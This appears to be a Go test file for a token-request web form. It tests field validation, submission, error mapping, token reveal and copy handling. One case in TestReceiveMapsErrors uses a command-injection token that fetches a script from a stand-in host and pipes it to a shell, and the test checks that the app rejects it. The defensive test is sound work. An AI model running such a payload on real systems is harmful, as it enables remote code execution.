package app

import (
	"strings"
	"testing"

	"tokendesk"
	"tokendesk/internal/lang"
)

func filled() state {
	s := newState(lang.EN)
	s.setValue(tokendesk.FieldName, "Ada Lovelace")
	s.setValue(tokendesk.FieldMail, "ada@example.com")
	s.setValue(tokendesk.FieldComment, "A talking head")
	return s
}

func sending(t *testing.T) state {
	t.Helper()
	s := filled()
	if _, ok := s.submit(); !ok {
		t.Fatalf("submit refused a valid form: %v", s.errors)
	}
	return s
}

func TestSubmitEmptyShowsFieldErrors(t *testing.T) {
	s := newState(lang.EN)
	if _, ok := s.submit(); ok {
		t.Fatal("an empty form was sent")
	}
	if s.phase != Editing {
		t.Fatalf("phase = %v, want Editing", s.phase)
	}
	if got := s.fieldError(tokendesk.FieldName); got != "Enter your name." {
		t.Errorf("name error = %q", got)
	}
	if got := s.fieldError(tokendesk.FieldMail); got != "Enter your email address." {
		t.Errorf("mail error = %q", got)
	}
	if got := s.fieldError(tokendesk.FieldComment); got != "" {
		t.Errorf("comment is optional but has error %q", got)
	}
	if got := s.takeFocus(); got != tokendesk.FieldName {
		t.Errorf("focus = %q, want the first invalid field", got)
	}
	if s.status != "2 fields need your attention." {
		t.Errorf("status = %q", s.status)
	}
}

func TestSubmitSendsEncodedFormOnce(t *testing.T) {
	s := filled()
	s.setValue(tokendesk.FieldMail, "  <ada@example.com> ")
	body, ok := s.submit()
	if !ok {
		t.Fatalf("valid form refused: %v", s.errors)
	}
	want := "name=Ada+Lovelace&mail=ada%40example.com&comment=A+talking+head"
	if body != want {
		t.Errorf("body = %q, want %q", body, want)
	}
	if s.phase != Sending || s.status != en(lang.KeySending) {
		t.Errorf("phase = %v status = %q", s.phase, s.status)
	}
	if _, ok := s.submit(); ok {
		t.Error("a second submit was sent while the first was under way")
	}
}

func TestBlurDoesNotNagOnEmptyField(t *testing.T) {
	s := newState(lang.EN)
	s.blur(tokendesk.FieldName)
	if got := s.fieldError(tokendesk.FieldName); got != "" {
		t.Errorf("blur on an empty field showed %q", got)
	}
	s.setValue(tokendesk.FieldMail, "ada@")
	s.blur(tokendesk.FieldMail)
	if got := s.fieldError(tokendesk.FieldMail); got == "" {
		t.Error("blur on an invalid address showed nothing")
	}
}

func TestErrorClearsWhileTypingOnceFixed(t *testing.T) {
	s := newState(lang.EN)
	s.setValue(tokendesk.FieldMail, "ada")
	s.blur(tokendesk.FieldMail)
	if s.fieldError(tokendesk.FieldMail) == "" {
		t.Fatal("no error for an invalid address")
	}
	s.setValue(tokendesk.FieldMail, "ada@example")
	if s.fieldError(tokendesk.FieldMail) == "" {
		t.Error("error cleared while the address is still invalid")
	}
	s.setValue(tokendesk.FieldMail, "ada@example.com")
	if got := s.fieldError(tokendesk.FieldMail); got != "" {
		t.Errorf("error kept once fixed: %q", got)
	}
	// A field with no error shown is not checked while typing.
	s.setValue(tokendesk.FieldName, strings.Repeat("x", 3))
	s.setValue(tokendesk.FieldName, "")
	if got := s.fieldError(tokendesk.FieldName); got != "" {
		t.Errorf("error shown while typing: %q", got)
	}
}

func TestReceiveToken(t *testing.T) {
	s := sending(t)
	s.receive(Answer{Status: 200, Token: "0b8f6c2e-6f3e-4d7a-9b1e-2f4a5c6d7e8f"})
	if s.phase != Revealed {
		t.Fatalf("phase = %v, want Revealed", s.phase)
	}
	if s.token != "0b8f6c2e-6f3e-4d7a-9b1e-2f4a5c6d7e8f" {
		t.Errorf("token = %q", s.token)
	}
	if got := s.takeFocus(); got != IDResultTitle {
		t.Errorf("focus = %q, want the result heading", got)
	}
	if !s.guardsLeave() {
		t.Error("leaving is not guarded while an uncopied token is shown")
	}
}

func TestReceiveMapsErrors(t *testing.T) {
	tests := []struct {
		name      string
		answer    Answer
		field     string
		formError string
	}{
		{
			name:   "field error goes to its field",
			answer: Answer{Status: 400, Code: tokendesk.CodeFieldInvalid, Field: "mail", Message: "Enter one email address, like name@example.com."},
			field:  "mail",
		},
		{
			name:      "form error shows its message",
			answer:    Answer{Status: 502, Code: tokendesk.CodeUpstreamFailed, Message: "The token service failed. Try again in a minute."},
			formError: "The token service failed. Try again in a minute.",
		},
		{
			name:      "unknown field becomes a form error",
			answer:    Answer{Status: 400, Code: tokendesk.CodeFieldInvalid, Field: "phone", Message: "Bad phone."},
			formError: "Bad phone.",
		},
		{
			name:      "rate limited without a body",
			answer:    Answer{Status: 429},
			formError: en(lang.KeyTooManyRequests),
		},
		{
			name:      "server error without a body never shows a bare status",
			answer:    Answer{Status: 504},
			formError: en(lang.KeyServerTrouble),
		},
		{
			name:      "client error without a body",
			answer:    Answer{Status: 400},
			formError: en(lang.KeyGeneric),
		},
		{
			name:      "200 without a token",
			answer:    Answer{Status: 200},
			formError: en(lang.KeyNoToken),
		},
		{
			name:      "200 with an odd token",
			answer:    Answer{Status: 200, Token: "two words\n"},
			formError: en(lang.KeyNoToken),
		},
		{
			// A token that would break out of a snippet's quotes never shows.
			name:      "200 with a token that is no UUID",
			answer:    Answer{Status: 200, Token: "x'$(curl evil.example|sh)'"},
			formError: en(lang.KeyNoToken),
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := sending(t)
			s.receive(tt.answer)
			if s.phase != Editing {
				t.Fatalf("phase = %v, want Editing", s.phase)
			}
			if s.formError != tt.formError {
				t.Errorf("form error = %q, want %q", s.formError, tt.formError)
			}
			if tt.field != "" {
				if s.fieldError(tt.field) != tt.answer.Message {
					t.Errorf("field error = %q", s.fieldError(tt.field))
				}
				if got := s.takeFocus(); got != tt.field {
					t.Errorf("focus = %q, want %q", got, tt.field)
				}
			}
			if s.value(tokendesk.FieldName) != "Ada Lovelace" || s.value(tokendesk.FieldComment) != "A talking head" {
				t.Error("values were not kept")
			}
			if strings.Contains(s.formError, "429") || strings.Contains(s.formError, "504") {
				t.Errorf("form error shows a status code: %q", s.formError)
			}
			if _, ok := s.submit(); !ok {
				t.Error("cannot send again after an error")
			}
		})
	}
}

func TestFailKeepsValues(t *testing.T) {
	for f, want := range map[Failure]string{
		Offline:     en(lang.KeyOffline),
		Unreachable: en(lang.KeyUnreachable),
		TimedOut:    en(lang.KeyTimedOut),
		Unreadable:  en(lang.KeyUnreadable),
	} {
		s := sending(t)
		s.fail(f)
		if s.phase != Editing || s.formError != want {
			t.Errorf("fail(%v): phase %v, error %q", f, s.phase, s.formError)
		}
		if s.value(tokendesk.FieldMail) != "ada@example.com" {
			t.Errorf("fail(%v) lost the values", f)
		}
	}
	if !strings.HasPrefix(en(lang.KeyOffline), "You are offline") || !strings.HasPrefix(en(lang.KeyUnreachable), "Could not reach") {
		t.Error("network messages do not say plainly what happened")
	}
}

func TestLateAnswersAreIgnored(t *testing.T) {
	s := newState(lang.EN)
	s.receive(Answer{Status: 200, Token: "0b8f6c2e-6f3e-4d7a-9b1e-2f4a5c6d7e8f"})
	s.fail(Offline)
	if s.phase != Editing || s.token != "" || s.formError != "" {
		t.Errorf("an answer with no request changed the state: %+v", s)
	}
}

func revealed(t *testing.T) state {
	t.Helper()
	s := sending(t)
	s.receive(Answer{Status: 200, Token: "0b8f6c2e-6f3e-4d7a-9b1e-2f4a5c6d7e8f"})
	s.takeFocus()
	return s
}

func TestCopy(t *testing.T) {
	s := revealed(t)
	s.copyDone(true)
	if !s.copied || s.copyStatus != en(lang.KeyCopiedStatus) || s.guardsLeave() {
		t.Errorf("after a copy: copied %v status %q guards %v", s.copied, s.copyStatus, s.guardsLeave())
	}

	s = revealed(t)
	s.toggle()
	s.copyDone(false)
	if s.copied || !s.copyFailed || s.hidden {
		t.Errorf("after a failed copy: copied %v failed %v hidden %v", s.copied, s.copyFailed, s.hidden)
	}
	if !strings.Contains(s.copyStatus, "Ctrl+C") || !strings.Contains(s.copyStatus, "⌘C") {
		t.Errorf("failed copy does not say how to copy by hand: %q", s.copyStatus)
	}
	if got := s.takeFocus(); got != IDToken {
		t.Errorf("focus = %q, want the token so it can be selected", got)
	}
	if !s.guardsLeave() {
		t.Error("a failed copy stopped guarding the page")
	}
	s.copiedByHand()
	if !s.copied || s.guardsLeave() {
		t.Error("a copy by hand was not recorded")
	}
}

func TestCopyByHandNeedsVisibleToken(t *testing.T) {
	s := revealed(t)
	s.toggle()
	s.copiedByHand()
	if s.copied {
		t.Error("a hidden token cannot be copied, yet it counts as copied")
	}
}

func TestToggle(t *testing.T) {
	s := revealed(t)
	if s.hidden {
		t.Fatal("token starts hidden")
	}
	s.toggle()
	if !s.hidden {
		t.Error("toggle did not hide")
	}
	s.toggle()
	if s.hidden {
		t.Error("toggle did not show")
	}
}

func TestDoneForgetsEverything(t *testing.T) {
	s := revealed(t)
	s.done()
	if s.phase != Editing || s.token != "" || s.copied || s.copyStatus != "" {
		t.Errorf("done left state behind: %+v", s)
	}
	for _, f := range tokendesk.Fields {
		if s.value(f) != "" {
			t.Errorf("done kept %s = %q", f, s.value(f))
		}
	}
	if s.guardsLeave() {
		t.Error("done still guards the page")
	}
	if got := s.takeFocus(); got != tokendesk.FieldName {
		t.Errorf("focus = %q, want the name field", got)
	}
}

// submit is submitWith without the Turnstile check, as most tests want it.
func (s *state) submit() (body string, ok bool) {
	return s.submitWith(challenge{})
}
